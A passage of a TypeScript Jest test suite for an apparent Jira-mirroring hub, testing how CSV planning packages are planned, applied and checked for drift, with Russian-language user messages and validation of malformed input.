/**
 * Planning packages over HTTP (SPEC 18): POST /packages/plan and /apply (multipart), GET /packages/{id}/drift,
 * against a mirror filled by refresh reports; the agent's side is driven by hand.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { agentOf, refreshResult, rowCounts, startHub, type TestHub } from './support/app.js';
import { connect } from './support/mcp.js';
import { CATALOGUE, reportCatalogue } from './support/catalogue.js';
import { ExportService, planText } from '../src/packages/index.js';

const HEADER = 'Ключ;Тип;Тема;Родитель;Срок;Метки;Исполнитель;Приоритет;Статус;Спринт;Доска';
const MIRROR = [
  { key: 'A-1', issue_type: 'Epic', summary: 'Эпик', status: 'To Do' },
  { key: 'A-2', summary: 'Отчёт', status: 'In Progress', duedate: '2026-12-01', labels: ['q4'], sprint: 'Спринт 1', fields: { parent: 'A-1' } },
  { key: 'A-3', summary: 'Выгрузка', status: 'Done' },
];
const LINKS = [{ source_key: 'A-3', target_key: 'A-2', link_type: 'Blocks' }];

describe('planning packages (SPEC 18)', () => {
  let hub: TestHub;
  let agent: ReturnType<typeof agentOf>;
  beforeEach(async () => {
    hub = await startHub();
    agent = agentOf(hub);
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: MIRROR.map((i) => i.key) } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult(MIRROR, LINKS));
  });
  afterEach(() => hub.close());

  const send = (route: 'plan' | 'apply', files: Record<string, string>, extra: Record<string, string> = {}, headers: Record<string, string> = {}) => {
    let req = hub.http.post(`/packages/${route}`);
    for (const [h, v] of Object.entries(headers)) req = req.set(h, v);
    for (const [field, content] of Object.entries(files)) req = req.attach(field, Buffer.from(content), `${field}.csv`);
    for (const [field, value] of Object.entries(extra)) req = req.field(field, value);
    return req;
  };
  const batchCount = async () => (await hub.http.get('/batches').expect(200)).body.length;

  it('a package Jira already matches → an empty plan; apply stores it with no batch', async () => {
    const issues = `${HEADER}\nA-2;Task;Отчёт;A-1;2026-12-01;q4;;;In Progress;Спринт 1;\nA-3;;;;;;;;Done;;`;
    const plan = (await send('plan', { issues, links: 'Откуда;Тип;Куда\nA-3;блокирует;A-2' }).expect(200)).body;
    expect(plan).toMatchObject({ empty: true, commands: [], findings: [], dry_run: null, text: 'Jira уже соответствует пакету: менять нечего.' });
    expect(plan.mirror).toMatchObject({ keys: ['A-2', 'A-3'], missing_keys: [] });
    expect(plan.refresh).toEqual({ type: 'refresh', params: { keys: ['A-2', 'A-3'] } });
    const before = await batchCount();
    const applied = (await send('apply', { issues }, { name: 'Спринт 2' }).expect(200)).body;
    expect(applied).toMatchObject({ batch: null, replayed: false, package: { name: 'Спринт 2', batch_id: null } });
    expect(await batchCount()).toBe(before);
  });

  it('plan: only the differences, in order, with the dry run\'s verdicts and the reversed link as a finding; writes nothing', async () => {
    const issues = `${HEADER}\nnew:1;Story;Новая история;A-1;2026-12-20;;;;;Спринт 2;\nA-2;;;;2026-12-15;;;;;;`;
    const links = 'Откуда;Тип;Куда\nA-2;блокирует;A-3\nnew:1;связанные;A-2';
    const before = await batchCount();
    const plan = (await send('plan', { issues, links }).expect(200)).body;
    expect(plan.commands.map((c: { type: string; params: object; file: string; row: number; verdict: string }) => [c.type, c.params, c.file, c.row, c.verdict])).toEqual([
      ['ensure_issue', { temp_key: 'new:1', issue_type: 'Story', summary: 'Новая история', parent: 'A-1' }, 'issues.csv', 2, 'cannot_judge'],
      ['ensure_fields', { key: 'new:1', duedate: '2026-12-20' }, 'issues.csv', 2, 'cannot_judge'],
      ['ensure_sprint', { key: 'new:1', sprint: 'Спринт 2' }, 'issues.csv', 2, 'cannot_judge'],
      ['ensure_fields', { key: 'A-2', duedate: '2026-12-15' }, 'issues.csv', 3, 'would_change'],
      ['ensure_link', { source: 'new:1', target: 'A-2', link_type: 'Relates' }, 'links.csv', 3, 'cannot_judge'],
    ]);
    expect(plan.findings).toEqual([expect.objectContaining({ file: 'links.csv', row: 2, code: 'reversed_link' })]);
    expect(plan.dry_run).toMatchObject({ source: 'client', awaiting_approval: false });
    expect(plan.dry_run.commands.at(-1)).toMatchObject({ type: 'refresh', tail_refresh: true });
    expect(await batchCount()).toBe(before);
  });

  it("apply says the batch's state in words, never its code", async () => {
    const issues = `${HEADER}\nA-2;;;;2026-12-16;;;;;;`;
    const first = (await send('apply', { issues }, { name: 'Слова' }).expect(200)).body;
    expect(first.text).toBe(`Пакет #${first.package.id} «Слова» сохранён, пакет команд #${first.batch.id} в очереди: команд 1 и обновление зеркала в конце.`);
    const again = (await send('apply', { issues }, { name: 'Слова' }).expect(200)).body;
    expect(again.text).toBe(`Эти же файлы уже применены: пакет #${first.package.id}, пакет команд #${first.batch.id} ещё выполняется (в очереди).`);
    await hub.http.post(`/batches/${first.batch.id}/cancel`).expect(200);
  });

  it('apply: the package stored and its batch submitted under the caller\'s source; the same files again while it runs → that batch', async () => {
    const issues = `${HEADER}\nA-2;;;;2026-12-15;;;;;;\nA-3;;Новая тема;;;;;;;;`;
    const first = (await send('apply', { issues }, { name: 'Декабрь' }, { 'X-Hub-Source': 'assistant' }).expect(200)).body;
    expect(first).toMatchObject({ replayed: false, package: { name: 'Декабрь' }, batch: { status: 'awaiting_approval', source: 'assistant' } });
    expect(first.batch.title).toBe(`Пакет планирования #${first.package.id} «Декабрь»`);
    expect(first.package.batch_id).toBe(first.batch.id);
    expect(first.batch.commands.map((c: { type: string }) => c.type)).toEqual(['ensure_fields', 'ensure_fields', 'refresh']);
    const again = (await send('apply', { issues }, {}, { 'X-Hub-Source': 'assistant' }).expect(200)).body;
    expect(again).toMatchObject({ replayed: true, package: { id: first.package.id }, batch: { id: first.batch.id } });
    expect((await hub.http.get(`/packages/${first.package.id}`).expect(200)).body).toEqual(first.package);

    // the batch finishes: the same files plan again from the mirror (nothing left) and apply stores a new package
    await hub.http.post(`/batches/${first.batch.id}/approve`).send({}).expect(200);
    for (const c of first.batch.commands.slice(0, 2)) expect((await agent.claim()).command.id).toBe(c.id), await agent.done(c.id, { changed: ['x'] });
    const tail = (await agent.claim()).command;
    await agent.done(tail.id, refreshResult([{ ...MIRROR[1], duedate: '2026-12-15' }, { ...MIRROR[2], summary: 'Новая тема' }]));
    const third = (await send('apply', { issues }).expect(200)).body;
    expect(third).toMatchObject({ replayed: false, batch: null });
    expect(third.package.id).toBeGreaterThan(first.package.id);
  });

  it('files with a BOM: applied again, and the stored package applied again («Вернуть к пакету»), while its batch waits → that batch, nothing new', async () => {
    const issues = '\uFEFFКлюч;Срок\r\nA-2;2026-11-30\r\n'; // Excel's «CSV UTF-8» starts with a BOM
    const first = (await send('apply', { issues }, { name: 'С BOM' }).expect(200)).body;
    expect(first).toMatchObject({ replayed: false, batch: { status: 'queued' } });
    const again = (await send('apply', { issues }, { name: 'С BOM' }).expect(200)).body;
    expect(again).toMatchObject({ replayed: true, package: { id: first.package.id }, batch: { id: first.batch.id } });
    const packages = (await hub.http.get('/packages').expect(200)).body.length;
    const batches = await batchCount();
    const back = (await hub.http.post(`/packages/${first.package.id}/apply`).expect(200)).body;
    expect(back).toMatchObject({ replayed: true, package: { id: first.package.id }, batch: { id: first.batch.id } });
    // the same files without their BOM are the same package too
    const plain = (await send('apply', { issues: issues.slice(1) }).expect(200)).body;
    expect(plain).toMatchObject({ replayed: true, package: { id: first.package.id }, batch: { id: first.batch.id } });
    expect((await hub.http.get('/packages').expect(200)).body.length).toBe(packages);
    expect(await batchCount()).toBe(batches);
  });

  it('a package naming only keys the mirror lacks is not «Jira matches»: plan, apply and drift say the keys could not be compared', async () => {
    const issues = `${HEADER}\nA-50;;;;2027-02-01;;;;;;`;
    const plan = (await send('plan', { issues }).expect(200)).body;
    expect(plan).toMatchObject({ empty: true, commands: [], mirror: { keys: [], missing_keys: ['A-50'] } });
    expect(plan.text).toBe('Команд нет, но сравнить с Jira удалось не всё: задач A-50 нет в зеркале хаба — обновите их в зеркале и постройте план снова. Замечаний: 1.');
    const applied = (await send('apply', { issues }).expect(200)).body;
    expect(applied.text).toContain('сохранён. Команд нет, но сравнить с Jira удалось не всё: задач A-50 нет в зеркале хаба');
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ matches: false, fields: [], links: [] });
    expect(drift.text).toBe(`Пакет #${applied.package.id} «пакет планирования» не сравнить с Jira целиком: задач A-50 нет в зеркале хаба — обновите их в зеркале или, если их удалили в Jira, уберите их строки из пакета; остальное совпадает.`);
  });

  it('an issue a later refresh no longer found in Jira (deleted or moved) is no match: a finding, drift says it is gone, and no refresh is offered for it again', async () => {
    const issues = `${HEADER}\nA-2;;;;2026-12-01;;;;In Progress;;\nA-3;;;;;;;;Done;;`;
    const applied = (await send('apply', { issues }).expect(200)).body;
    expect((await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body.matches).toBe(true);
    hub.clock.advance(60_000);
    // A-3 deleted in Jira: the refresh of both returns A-2 only.
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-2', 'A-3'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, { ...refreshResult([MIRROR[1]!]), missing_keys: ['A-3'] });
    const plan = (await send('plan', { issues }).expect(200)).body;
    expect(plan.mirror).toMatchObject({ keys: ['A-2'], missing_keys: [], gone_keys: ['A-3'] });
    expect(plan.refresh).toEqual({ type: 'refresh', params: { keys: ['A-2'] } });
    expect(plan.findings).toEqual([expect.objectContaining({ code: 'gone_from_jira', row: 3, detail: expect.stringContaining('задачи A-3 в Jira больше нет') })]);
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ matches: false, fields: [], links: [] });
    expect(drift.text).toBe(`Jira отошла от пакета #${applied.package.id} «пакет планирования»: задач A-3 в Jira больше нет (удалены или перенесены в другой проект) — уберите их строки из пакета или создайте задачи заново; остальное совпадает.`);
    // A link to it is no link to make: a finding, not an ensure_link the agent would answer 404 to.
    const linked = (await send('plan', { issues: `${HEADER}\nA-2;;;;2026-12-01;;;;In Progress;;`, links: 'Откуда;Тип;Куда\nA-2;связанные;A-3' }).expect(200)).body;
    expect(linked).toMatchObject({ commands: [], mirror: { keys: ['A-2'], missing_keys: [], gone_keys: ['A-3'] }, refresh: { params: { keys: ['A-2'] } } });
    expect(linked.findings).toEqual([expect.objectContaining({ file: 'links.csv', row: 2, code: 'gone_from_jira' })]);
    // Only the gone issue: not «Jira уже соответствует».
    const only = (await send('plan', { issues: `${HEADER}\nA-3;;;;;;;;Done;;` }).expect(200)).body;
    expect(only.text).toBe('Команд нет, но сравнить с Jira удалось не всё: задач A-3 в Jira больше нет (удалены или перенесены) — уберите их строки из пакета. Замечаний: 1.');
    // Found again by a later refresh (moved back), it is compared as ever.
    hub.clock.advance(60_000);
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-3'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([MIRROR[2]!]));
    expect((await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body.matches).toBe(true);
  });

  it('an issue a failed command found gone (Jira 404, missing_keys) is gone as after a refresh: plan, drift, GET /issues/{key} and the sync run say so', async () => {
    const issues = `${HEADER}\nA-2;;;;2026-12-01;;;;In Progress;;\nA-3;;;;;;;;Done;;`;
    const applied = (await send('apply', { issues }).expect(200)).body;
    hub.clock.advance(60_000);
    // A-3 deleted in Jira: the agent's ensure_fields of it fails with Jira's 404 and names it.
    const b = (await hub.http.post('/batches').send({ title: 'f', commands: [{ type: 'ensure_fields', params: { key: 'A-3', summary: 'x' } }] }).expect(201)).body;
    const c = (await agent.claim()).command;
    expect(c).toMatchObject({ type: 'ensure_fields', params: { key: 'A-3' } });
    const error = 'Jira: задачи A-3 нет или у агента нет прав её видеть — возможно, её удалили или перенесли в другой проект; обновите её в зеркале (HTTP 404: Issue does not exist)';
    // only the keys the command names count, as only those a refresh asked for do
    await agent.report(c.id, { status: 'failed', error, missing_keys: ['A-3', 'A-2'] }).expect(200);
    expect((await hub.http.get(`/commands/${c.id}`).expect(200)).body).toMatchObject({ status: 'failed', error });
    const run = (await hub.http.get('/sync-runs').expect(200)).body[0];
    expect(run).toMatchObject({ kind: 'keys', query: 'A-3', command_id: c.id, missing: ['A-3'], issues: 0, links: 0, error: null, finished_at: hub.clock.iso() });
    // The mirror keeps the issue (SPEC 7), as after a refresh that missed it.
    expect((await hub.http.get('/issues/A-3').expect(200)).body).toMatchObject({ key: 'A-3', status: 'Done' });
    const plan = (await send('plan', { issues }).expect(200)).body;
    expect(plan.mirror).toMatchObject({ keys: ['A-2'], missing_keys: [], gone_keys: ['A-3'] });
    expect(plan.findings).toEqual([expect.objectContaining({ code: 'gone_from_jira', row: 3, detail: expect.stringContaining('задачи A-3 в Jira больше нет') })]);
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ matches: false, mirror: { gone_keys: ['A-3'] } });
    expect(drift.text).toContain('задач A-3 в Jira больше нет');
    // The batch's tail refresh finds A-3 again (moved back): compared as ever.
    hub.clock.advance(60_000);
    const tail = (await agent.claim()).command;
    expect(tail).toMatchObject({ batch_id: b.id, type: 'refresh', params: { keys: ['A-3'] } });
    await agent.done(tail.id, refreshResult([MIRROR[2]!]));
    expect((await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body.matches).toBe(true);
  });

  it('missing_keys: Jira keys, with a failure only, at most 100 — else 422 with nothing written', async () => {
    await hub.http.post('/batches').send({ title: 'f', commands: [{ type: 'ensure_fields', params: { key: 'A-3', summary: 'x' } }] }).expect(201);
    const c = (await agent.claim()).command;
    const runs = (await hub.http.get('/sync-runs').expect(200)).body.length;
    const refused = async (body: Record<string, unknown>) => (await agent.report(c.id, body).expect(422)).body;
    expect(await refused({ status: 'failed', error: 'x', missing_keys: ['a-3'] })).toMatchObject({ error: 'validation_failed', detail: expect.stringContaining('missing_keys') });
    expect((await refused({ status: 'failed', error: 'x', missing_keys: ['a-3'] })).detail).toContain('нужны ключи Jira (ABC-123)');
    expect((await refused({ status: 'failed', error: 'x', missing_keys: 'A-3' })).detail).toContain('missing_keys: нужен массив');
    expect((await refused({ status: 'failed', error: 'x', missing_keys: [3] })).detail).toContain('missing_keys');
    expect((await refused({ status: 'failed', error: 'x', missing_keys: Array.from({ length: 101 }, (_, i) => `A-${i + 1}`) })).detail).toContain('не больше 100 ключей');
    expect((await refused({ status: 'done', result: {}, missing_keys: ['A-3'] })).detail).toContain('missing_keys бывают только при status: failed');
    expect((await refused({ status: 'released', error: '401', missing_keys: ['A-3'] })).detail).toContain('missing_keys бывают только при status: failed');
    expect((await hub.http.get(`/commands/${c.id}`).expect(200)).body.status).toBe('claimed');
    expect((await hub.http.get('/sync-runs').expect(200)).body).toHaveLength(runs);
  });

  it("a failed refresh's missing_keys add no second run: a refresh tells its missing keys in its result", async () => {
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-3'] } }] }).expect(201);
    const c = (await agent.claim()).command;
    const runs = (await hub.http.get('/sync-runs').expect(200)).body;
    const own = runs.filter((r: { command_id: number }) => r.command_id === c.id);
    expect(own).toHaveLength(1);
    await agent.report(c.id, { status: 'failed', error: 'Jira: задачи A-3 нет', missing_keys: ['A-3'] }).expect(200);
    const after = (await hub.http.get('/sync-runs').expect(200)).body;
    expect(after).toHaveLength(runs.length);
    expect(after.filter((r: { command_id: number }) => r.command_id === c.id)).toEqual([expect.objectContaining({ id: own[0].id, missing: [], error: 'Jira: задачи A-3 нет' })]);
  });

  it('drift: per issue and field, where the mirror moved away from the applied package', async () => {
    const issues = `${HEADER}\nA-2;;;;2026-12-01;;;;In Progress;;\nA-3;;;;;;;;Done;;`;
    const applied = (await send('apply', { issues, links: 'Откуда;Тип;Куда\nA-3;блокирует;A-2' }).expect(200)).body;
    expect(applied.batch).toBeNull();
    const none = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(none).toMatchObject({ matches: true, fields: [], links: [], batch_status: null });
    // someone moves the due date and reopens A-3 in Jira; the link is gone
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-2', 'A-3'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ ...MIRROR[1], duedate: '2026-12-24' }, { ...MIRROR[2], status: 'To Do' }]));
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift.matches).toBe(false);
    expect(drift.fields).toEqual([
      { key: 'A-2', jira_key: 'A-2', row: 2, field: 'duedate', wanted: '2026-12-01', actual: '2026-12-24' },
      { key: 'A-3', jira_key: 'A-3', row: 3, field: 'status', wanted: 'Done', actual: 'To Do' },
    ]);
    expect(drift.links).toEqual([{ row: 2, source: 'A-3', target: 'A-2', link_type: 'Blocks', state: 'missing' }]);
    expect(drift.text).toContain('jira-hub apply');
    // the way back: the stored package planned again, then applied again
    const back = (await hub.http.post(`/packages/${applied.package.id}/plan`).expect(200)).body;
    expect(back.commands.map((c: { type: string; params: object }) => [c.type, c.params])).toEqual([
      ['ensure_fields', { key: 'A-2', duedate: '2026-12-01' }],
      ['ensure_status', { key: 'A-3', to: 'Done' }],
      ['ensure_link', { source: 'A-3', target: 'A-2', link_type: 'Blocks' }],
    ]);
    const again = (await hub.http.post(`/packages/${applied.package.id}/apply`).expect(200)).body;
    expect(again).toMatchObject({ replayed: false, package: { name: applied.package.name }, batch: { status: 'queued' } });
    expect(again.batch.commands).toHaveLength(4);
    await hub.http.post('/packages/999/plan').expect(404);
  });

  it('a stored package keeps meaning the issue its own batch created: a later batch reusing its temp key moves neither drift nor the way back', async () => {
    // Run a batch to its end by hand: each ensure_issue creates `created`, the tail refresh reports `mirror`.
    const run = async (batchId: number, created: string, mirror: Record<string, unknown>[]) => {
      for (;;) {
        const c = (await agent.claim()).command;
        if (!c) return;
        expect(c.batch_id).toBe(batchId);
        await agent.done(c.id, c.type === 'refresh' ? refreshResult([...MIRROR, ...mirror], LINKS) : c.type === 'ensure_issue' ? { key: created, created: true } : {});
        if (c.type === 'refresh') return;
      }
    };
    const issues = `${HEADER}\nnew:1;Task;Отчёт отдела А;;2026-12-20;;;;;;`;
    const a = (await send('apply', { issues }, { name: 'Отдел А' }).expect(200)).body;
    const mine = { key: 'A-10', summary: 'Отчёт отдела А', duedate: '2026-12-20' };
    await run(a.batch.id, 'A-10', [mine]);
    // Another team's batch defines new:1 again: SPEC 6.3's newest resolution is now A-11.
    const other = (await hub.http.post('/batches').send({ title: 'Отдел Б', commands: [{ type: 'ensure_issue', params: { temp_key: 'new:1', issue_type: 'Bug', summary: 'Ошибка отдела Б' } }] }).expect(201)).body;
    const theirs = { key: 'A-11', issue_type: 'Bug', summary: 'Ошибка отдела Б' };
    await run(other.id, 'A-11', [mine, theirs]);
    const drift = (await hub.http.get(`/packages/${a.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ matches: true, fields: [], links: [] });
    // Jira moves A-10's due date: the drift and the way back are about A-10, never A-11.
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-10'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ ...mine, duedate: '2027-01-15' }]));
    const moved = (await hub.http.get(`/packages/${a.package.id}/drift`).expect(200)).body;
    expect(moved.fields).toEqual([{ key: 'new:1', jira_key: 'A-10', row: 2, field: 'duedate', wanted: '2026-12-20', actual: '2027-01-15' }]);
    const back = (await hub.http.post(`/packages/${a.package.id}/plan`).expect(200)).body;
    expect(back.commands.map((c: { type: string; params: object }) => [c.type, c.params])).toEqual([['ensure_fields', { key: 'A-10', duedate: '2026-12-20' }]]);
    expect(back.text).not.toContain('Временные ключи'); // its own new:1: nothing to warn about
    // The same files planned anew mean what new:1 means now (SPEC 6.3): the plan says so, naming the issue.
    const anew = (await send('plan', { issues }).expect(200)).body;
    expect(anew.temp_keys).toEqual([{ temp_key: 'new:1', key: 'A-11' }]);
    expect(anew.text).toContain('Временные ключи, которые хаб уже создавал: new:1 — A-11; их строки сравниваются с этими задачами и меняют их');
  });

  it('a stored package means the issues of its line: one a retry created, and after it was applied again (decision 1422)', async () => {
    // Runs what is queued by hand, oldest first: each ensure_issue creates `created` (or fails), a refresh reports `mirror`.
    const runAll = async (created: string | null, mirror: Record<string, unknown>[]) => {
      for (let c = (await agent.claim()).command; c; c = (await agent.claim()).command) {
        if (c.type === 'ensure_issue' && created === null) await agent.report(c.id, { status: 'failed', error: 'HTTP 400: Field summary is invalid' }).expect(200);
        else await agent.done(c.id, c.type === 'refresh' ? refreshResult([...MIRROR, ...mirror], LINKS) : c.type === 'ensure_issue' ? { key: created, created: true } : {});
      }
    };
    const defineAgain = async (key: string, mirror: Record<string, unknown>[]) => {
      await hub.http.post('/batches').send({ title: 'Отдел Б', commands: [{ type: 'ensure_issue', params: { temp_key: 'new:1', issue_type: 'Bug', summary: `Ошибка ${key}` } }] }).expect(201);
      await runAll(key, mirror);
    };
    const issues = `${HEADER}\nnew:1;Task;Отчёт отдела А;;2026-12-20;;;;;;`;
    const first = (await send('apply', { issues }, { name: 'Отдел А' }).expect(200)).body;
    expect(first.package.applied_from).toBeNull();
    await runAll(null, []); // Jira refuses the ensure_issue: nothing made yet
    const failed = (await hub.http.get(`/batches/${first.batch.id}`).expect(200)).body.commands.find((c: { type: string }) => c.type === 'ensure_issue');
    expect(failed.status).toBe('failed');
    // A person retries it (a later batch); it creates A-10.
    await hub.http.post(`/commands/${failed.id}/retry`).expect(201);
    const mine = { key: 'A-10', summary: 'Отчёт отдела А', duedate: '2026-12-20' };
    await runAll('A-10', [mine]);
    // Another team's batch defines new:1 again: SPEC 6.3's newest resolution is now A-11.
    const theirs = { key: 'A-11', issue_type: 'Bug', summary: 'Ошибка A-11' };
    await defineAgain('A-11', [mine, theirs]);
    expect((await hub.http.get(`/packages/${first.package.id}/drift`).expect(200)).body).toMatchObject({ matches: true, fields: [], links: [] });
    // Jira moves A-10's due date; the package is applied again (a new package of the same line) and brings it back.
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-10'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ ...mine, duedate: '2027-01-15' }]));
    const again = (await hub.http.post(`/packages/${first.package.id}/apply`).expect(200)).body;
    expect(again.package).toMatchObject({ applied_from: first.package.id });
    expect(again.batch.commands.map((c: { type: string; params: object }) => [c.type, c.params])).toEqual([
      ['ensure_fields', { key: 'A-10', duedate: '2026-12-20' }],
      ['refresh', { keys: ['A-10'] }],
    ]);
    await runAll(null, [mine, theirs]);
    expect((await hub.http.get(`/packages/${again.package.id}`).expect(200)).body.applied_from).toBe(first.package.id);
    // new:1 defined a third time, after the package applied again: both packages still mean A-10.
    await defineAgain('A-12', [mine, theirs, { key: 'A-12', issue_type: 'Bug', summary: 'Ошибка A-12' }]);
    for (const id of [first.package.id, again.package.id]) {
      expect((await hub.http.get(`/packages/${id}/drift`).expect(200)).body).toMatchObject({ matches: true, fields: [], links: [] });
    }
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-10'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ ...mine, duedate: '2027-02-01' }]));
    const moved = (await hub.http.get(`/packages/${again.package.id}/drift`).expect(200)).body;
    expect(moved.fields).toEqual([{ key: 'new:1', jira_key: 'A-10', row: 2, field: 'duedate', wanted: '2026-12-20', actual: '2027-02-01' }]);
  });

  it('a refusal that points at another command names its file row, not the batch\'s command number', async () => {
    const res = await send('apply', { issues: `${HEADER}\nnew:11;Task;Тесты;;;;;;;;\nnew:12;Task;Тесты ;;;;;;;;` }).expect(422);
    expect(res.body.detail).toContain('issues.csv, строка 3');
    expect(res.body.detail).toContain('(как в issues.csv, строка 2)');
    expect(res.body.detail).not.toMatch(/(команд[аеы]|шаг[аеи]?) \d/);
    expect(JSON.stringify(res.body.findings)).not.toMatch(/как в (команде|шаге)/);
    expect((await hub.http.get('/packages').expect(200)).body).toEqual([]);
  });

  it('more findings than an answer lists (decision 1452): plan, apply\'s plan and drift list the first 1,000 in file and row order, with the whole count; nothing else changes', async () => {
    // 1,200 rows of keys the mirror lacks (a finding each, no command), one real change, and a reversed link after them.
    const unknown = Array.from({ length: 1_200 }, (_, i) => `Z-${i + 1};;;;2026-12-01;;;;;;`);
    const issues = `${HEADER}\nA-2;;;;2026-12-15;;;;;;\n${unknown.join('\n')}`;
    const links = 'Откуда;Тип;Куда\nA-2;блокирует;A-3';
    const plan = (await send('plan', { issues, links }).expect(200)).body;
    expect(plan.findings_total).toBe(1_201);
    expect(plan.findings).toHaveLength(1_000);
    expect(plan.findings.map((f: { file: string; row: number }) => `${f.file}:${f.row}`)).toEqual(Array.from({ length: 1_000 }, (_, i) => `issues.csv:${i + 3}`));
    expect(plan.text).toBe('Изменений: 1 (поля: 1). Замечаний: 1201 (показаны первые 1000 из 1201 замечания).');
    expect(plan.commands.map((c: { type: string; params: object }) => [c.type, c.params])).toEqual([['ensure_fields', { key: 'A-2', duedate: '2026-12-15' }]]);
    expect(plan.mirror.missing_keys).toHaveLength(1_200);
    expect(plan.dry_run).toMatchObject({ ok: true });
    expect(planText(plan)).toContain('\n  Показаны первые 1000 из 1201 замечания.');
    const applied = (await send('apply', { issues, links }).expect(200)).body;
    expect(applied.batch.commands.map((c: { type: string }) => c.type)).toEqual(['ensure_fields', 'refresh']);
    expect(applied.plan).toMatchObject({ findings_total: 1_201, text: plan.text });
    expect(applied.plan.findings).toEqual(plan.findings);
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    // Drift leaves out the reversed link (it is in `links`): 1,200 findings, the first 1,000 listed.
    expect(drift).toMatchObject({ matches: false, findings_total: 1_200 });
    expect(drift.findings).toEqual(plan.findings);
    expect(drift.links).toEqual([expect.objectContaining({ row: 2, state: 'reversed' })]);
    expect(drift.text.split('\n').at(-1)).toBe('Замечаний к пакету: 1200, показаны первые 1000 из 1200 замечаний.');
    await hub.http.post(`/batches/${applied.batch.id}/cancel`).expect(200);
  });

  it('findings within the cap are all listed, findings_total beside them and no cut in the text', async () => {
    const plan = (await send('plan', { issues: `${HEADER}\nA-2;;;;2026-12-15;;;;;;\nZ-1;;;;2026-12-01;;;;;;` }).expect(200)).body;
    expect(plan).toMatchObject({ findings_total: 1, findings: [expect.objectContaining({ code: 'unknown_key', row: 3 })], text: 'Изменений: 1 (поля: 1). Замечаний: 1.' });
  });

  it('a new row the agent would not create is named in the plan: a summary the mirror has, a temp key a batch still to run defines', async () => {
    // A-2 «Отчёт» is in the mirror: a new row «Отчёт» would be that issue, changed by the row.
    const same = (await send('plan', { issues: `${HEADER}\nnew:7;Task;Отчёт;;2027-01-01;;;;;;` }).expect(200)).body;
    expect(same.findings).toEqual([expect.objectContaining({ row: 2, column: 'Тема', code: 'summary_exists', detail: expect.stringContaining('в зеркале уже есть задача с темой «Отчёт»: A-2') })]);
    // Applied, its batch not yet run: the same files edited and planned again would make a second issue.
    const first = `${HEADER}\nnew:8;Task;Задача Д;;;;;;;;`;
    const applied = (await send('apply', { issues: first }).expect(200)).body;
    const edited = (await send('plan', { issues: `${HEADER}\nnew:8;Task;Задача Д исправлена;;;;;;;;` }).expect(200)).body;
    expect(edited.findings).toEqual([expect.objectContaining({ row: 2, column: 'Ключ', code: 'temp_key_pending', detail: expect.stringContaining(`уже создаёт пакет команд #${applied.batch.id} (тема «Задача Д»), он ещё не выполнен`) })]);
    expect(planText(edited)).toContain('временный ключ new:8 уже создаёт пакет команд');
    // Its own batch is no other's: the same files planned again, the stored package's way back and its drift find nothing.
    expect((await send('plan', { issues: first }).expect(200)).body.findings).toEqual([]);
    expect((await hub.http.post(`/packages/${applied.package.id}/plan`).expect(200)).body.findings).toEqual([]);
    expect((await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body.findings).toEqual([]);
  });

  it('a labels cell of only commas and spaces is no wish to clear the labels: plan and apply → 422 naming the cell, nothing written', async () => {
    // A-2 has the label q4: read as an empty set of labels, the cell cleared it in Jira, which no package does (decision 0701).
    const issues = `${HEADER}\nA-2;;;;;",";;;;;\nA-3;;;;;" , ";;;;;`;
    const problem = 'в ячейке меток только запятые и пробелы, ни одной метки: пакет метки не стирает — оставьте ячейку пустой, чтобы метки не менять, или впишите метки';
    const refused = (await send('plan', { issues }).expect(422)).body;
    expect(refused).toMatchObject({
      error: 'validation_failed',
      errors: [
        { field: 'issues.csv:2:Метки', detail: problem },
        { field: 'issues.csv:3:Метки', detail: problem },
      ],
    });
    expect(refused.detail).toContain(`issues.csv, строка 2, столбец «Метки»: ${problem}`);
    const tables = ['package', 'batch', 'command'];
    const before = await rowCounts(hub, tables);
    await send('apply', { issues }).expect(422);
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('files saved separated by tabs (a spreadsheet\'s tab-delimited text) → 422 naming each file and saying the separator is the problem, nothing written', async () => {
    const tabs = (text: string) => text.replaceAll(';', '\t');
    const tables = ['package', 'batch', 'command', 'issue_note'];
    const before = await rowCounts(hub, tables);
    for (const route of ['plan', 'apply'] as const) {
      const refused = (await send(route, { issues: tabs(`${HEADER}\nA-2;;;;2027-01-01;;;;;;`), links: tabs('Откуда;Тип;Куда\nA-3;блокирует;A-2') }).expect(422)).body;
      expect(refused.errors.map((e: { field: string }) => e.field)).toEqual(['issues.csv', 'links.csv']);
      expect(refused.detail).toMatch(/^issues\.csv: похоже, значения в файле разделены табуляцией .+ хаб читает CSV с разделителем «,» \(запятая\) или «;» \(точка с запятой\)/);
